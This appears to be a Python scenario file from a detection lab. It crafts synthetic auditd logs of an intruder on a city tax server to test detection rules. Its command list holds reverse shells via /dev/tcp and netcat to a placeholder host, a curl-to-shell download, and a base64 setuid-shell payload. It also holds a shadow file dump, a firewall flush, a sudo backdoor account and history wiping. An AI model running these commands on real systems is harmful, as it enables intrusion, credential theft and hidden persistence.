"""Hands-on-keyboard on a city Linux server, as its audit log records it.

``linux-commands``: after a foothold on the tax application server, an intruder (audit uid of
the compromised ``www-data`` service, then root) opens reverse shells, pulls and runs a script,
decodes a payload, reads the password hashes, opens the firewall, creates a backdoor account,
plants an SSH key and wipes the shell history. Each step is an ``execve`` (or a watched file
open) record in auditd's ENRICHED format, with the audit rules a hardened host carries
(``-a always,exit -S execve -k exec``, ``-w /etc/shadow -p r -k shadow``,
``-w /root/.ssh -p wa -k ssh_keys``).
"""

from __future__ import annotations

from datetime import timedelta
from typing import ClassVar

from lab.craft import auditd
from lab.craft.auditd import Actor, PathItem
from lab.craft.timeline import wait_until
from lab.scenarios.base import Scenario, Stage

REVERSE_SHELL = "da4b6ef7-c820-5d42-bef8-9658002a5615"  # linux-bash-dev-tcp-reverse-shell
DOWNLOAD_TO_SHELL = "813d03f6-4f08-571a-a8cb-7e8452601a1c"  # linux-download-piped-to-shell
BASE64_EXEC = "4c522cb2-d52f-51c4-af88-51fd8cd587fc"  # linux-base64-decoded-execution
FIREWALL_FLUSHED = "2aa828ba-b03b-5930-910e-90b9b44e4ba7"  # linux-firewall-disabled
HISTORY_CLEARED = "3410f209-640e-5fc3-a4cb-4dc03ba2412f"  # linux-history-tampering
ACCOUNT_CREATED = "5911c55f-6415-5a00-bd8a-6838ed23d7b6"  # linux-local-account-created
NETCAT_EXEC = "4c4733a1-8c38-5139-b2d2-f3909e9341e8"  # linux-netcat-exec-shell
SHADOW_DUMPED = "e21350ca-f397-5f33-bd59-38ffdbca7d6a"  # linux-shadow-copy-or-dump
SHADOW_READ = "96f48331-d97e-521d-ae3f-3b898df688c2"  # linux-auditd-shadow-file-access
AUTHORIZED_KEYS = "e2bb1b6e-3b42-5bf9-a506-0eaa2765e599"  # linux-auditd-authorized-keys-modified

C2 = "203.0.113.50"
HOST = "tax-app02"
TMP = "/tmp"  # noqa: S108 - the intruder's working directory on the crafted host
WWW = Actor(HOST, uid=33, auid=4294967295, user="www-data", login="unset", ses=4294967295)
ROOT = Actor(HOST, uid=0, auid=4294967295, user="root", login="unset", ses=4294967295, tty="pts1")

#: (actor, argv, executable, cwd): the intruder's session, in order.
STEPS: tuple[tuple[Actor, tuple[str, ...], str, str], ...] = (
    (WWW, ("sh", "-c", "id; uname -a"), "/usr/bin/dash", "/var/www/tax"),
    (WWW, ("uname", "-a"), "/usr/bin/uname", "/var/www/tax"),
    (WWW, ("bash", "-c", f"bash -i >& /dev/tcp/{C2}/443 0>&1"), "/usr/bin/bash", "/var/www/tax"),
    (WWW, ("sh", "-c", f"curl -fsSL http://{C2}/k.sh | sh"), "/usr/bin/dash", TMP),
    (WWW, ("curl", "-fsSL", f"http://{C2}/k.sh"), "/usr/bin/curl", TMP),
    (
        WWW,
        (
            "sh",
            "-c",
            "echo Y3AgL2Jpbi9iYXNoIC90bXAvLnggJiYgY2htb2QgdStzIC90bXAvLng= | base64 -d | bash",
        ),
        "/usr/bin/dash",
        TMP,
    ),
    (WWW, ("nc", "-e", "/bin/sh", C2, "8443"), "/usr/bin/nc.traditional", TMP),
    (ROOT, ("cat", "/etc/shadow"), "/usr/bin/cat", TMP),
    (ROOT, ("iptables", "-F"), "/usr/sbin/xtables-nft-multi", TMP),
    (
        ROOT,
        ("useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "svc-sync"),
        "/usr/sbin/useradd",
        TMP,
    ),
    (ROOT, ("bash", "-c", "unset HISTFILE; history -c"), "/usr/bin/bash", "/root"),
)


class LinuxCommands(Scenario):
    """An intruder's commands on a city server, one execve record each."""

    name: ClassVar[str] = "linux-commands"
    title: ClassVar[str] = "Suspicious commands on the tax application server"
    techniques: ClassVar[tuple[str, ...]] = (
        "T1059.004",
        "T1105",
        "T1140",
        "T1003.008",
        "T1562.004",
        "T1136.001",
        "T1098.004",
        "T1070.003",
    )
    expects: ClassVar[tuple[str, ...]] = (
        REVERSE_SHELL,
        DOWNLOAD_TO_SHELL,
        BASE64_EXEC,
        NETCAT_EXEC,
        SHADOW_DUMPED,
        SHADOW_READ,
        FIREWALL_FLUSHED,
        ACCOUNT_CREATED,
        AUTHORIZED_KEYS,
        HISTORY_CLEARED,
    )

    def play(self, stage: Stage) -> None:
        start = stage.now()
        lines: list[str] = []
        serial = 91_020
        moment = start
        for i, (actor, argv, exe, cwd) in enumerate(STEPS):
            moment = start + timedelta(milliseconds=40 * i)
            pid = 7100 + 3 * i
            lines += auditd.execve(actor, moment, serial, argv, exe, cwd=cwd, pid=pid, ppid=7001)
            serial += 1
            if argv == ("cat", "/etc/shadow"):
                # The same cat opening the file: the watch on /etc/shadow records the read.
                lines += auditd.file_syscall(
                    actor,
                    moment,
                    serial,
                    "openat",
                    [PathItem("/etc/shadow", inode=262_311, mode="0100640")],
                    exe=exe,
                    argv=argv,
                    cwd=cwd,
                    pid=pid,
                    ppid=7001,
                    key="shadow",
                    exit_code=3,
                )
                serial += 1
        # The backdoor key appended by the root shell (a builtin redirection: no execve).
        moment += timedelta(milliseconds=40)
        lines += auditd.file_syscall(
            ROOT,
            moment,
            serial,
            "openat",
            [
                PathItem("/root/.ssh/", "PARENT", mode="040700"),
                PathItem("/root/.ssh/authorized_keys"),
            ],
            exe="/usr/bin/bash",
            argv=("bash", "-i"),
            cwd="/root",
            pid=7050,
            ppid=7001,
            key="ssh_keys",
            exit_code=3,
        )
        wait_until(moment)
        stage.log(f"{HOST}/audit.log", lines, "auditd")
        stage.note(f"{len(STEPS)} commands and 2 watched file opens recorded by auditd on {HOST}")


SCENARIOS: tuple[type[Scenario], ...] = (LinuxCommands,)
